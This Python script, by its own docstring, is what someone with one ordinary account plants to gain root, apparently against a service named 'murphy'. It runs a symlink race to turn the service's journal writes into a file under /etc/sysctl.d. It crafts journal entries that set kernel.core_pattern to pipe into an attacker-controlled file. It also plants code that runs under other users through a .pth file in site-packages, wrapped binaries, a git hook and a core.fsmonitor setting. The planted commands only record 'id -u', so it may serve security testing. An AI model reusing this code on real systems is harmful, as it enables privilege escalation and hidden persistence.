"""What somebody plants who has one account of a machine and wants root's.

ways_to_root.py lines NAME    a journal among the games whose kinds are lines of another program's settings
ways_to_root.py game NAME     a journal among the games
ways_to_root.py copy          a copy of a game; says where
ways_to_root.py race          until the file ``raced`` lies there: whatever is written anew becomes a link to a file of root's
ways_to_root.py program       programs of the checkout, and settings of git's, that note whose rights they run with
"""

from __future__ import annotations

import os
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

from companion.journal.ledger import Ledger
from companion.journal.ledger_rows import START, Row

GAMES = Path("/var/lib/murphy")
TARGET = Path("/etc/sysctl.d/91-x.conf")
LINES = "\nkernel.core_pattern = |/var/lib/murphy/x\n"


def written(path: Path, *kinds: str) -> None:
    """A journal with one entry of each kind."""
    rows: list[Row] = []
    for kind in kinds:
        before = rows[-1] if rows else START
        rows.append(before.next(1.0, kind, "{}", before.seq + 1))
    ledger = Ledger(path)
    ledger.write(rows)
    ledger.close()


def race() -> None:
    while not (GAMES / "raced").exists():
        for name in ("evening.journal.fresh", "evening.journal.fresh-wal"):
            with suppress(OSError):
                (GAMES / name).unlink()
                (GAMES / name).symlink_to(TARGET)


def program() -> None:
    here = Path.home() / "murphy"
    # Folders that git ignores: the checkout counts as unchanged.
    ran = here / ".venv/ran"
    note = f"id -u >>{ran}"
    ran.touch()
    ran.chmod(0o666)
    packages = next((here / ".venv/lib").glob("python3*")) / "site-packages"
    (packages / "planted.pth").write_text(f"import os; os.system({note!r})\n")
    for name in ("murphy", "pip"):
        there = here / ".venv/bin" / name
        there.rename(there.with_name(f"{name}.real"))
        there.write_text(f'#!/bin/sh\n{note}\nexec "$0.real" "$@"\n')
        there.chmod(0o755)
    hook = here / ".git/hooks/post-merge"
    hook.write_text(f"#!/bin/sh\n{note}\n")
    hook.chmod(0o755)
    subprocess.run(["git", "-C", here, "config", "core.fsmonitor", str(hook)], check=True)


def main(what: str, name: str = "") -> None:
    os.umask(0o077)
    match what:
        case "lines":
            written(GAMES / name, LINES, "game")
        case "game":
            written(GAMES / name, "game", "event")
        case "copy":
            (GAMES / "evening.journal").unlink(missing_ok=True)
            written(copy := GAMES / "copy.journal", *["event"] * 2000)
            print(copy)
        case "race":
            race()
        case "program":
            program()


if __name__ == "__main__":
    main(*sys.argv[1:])
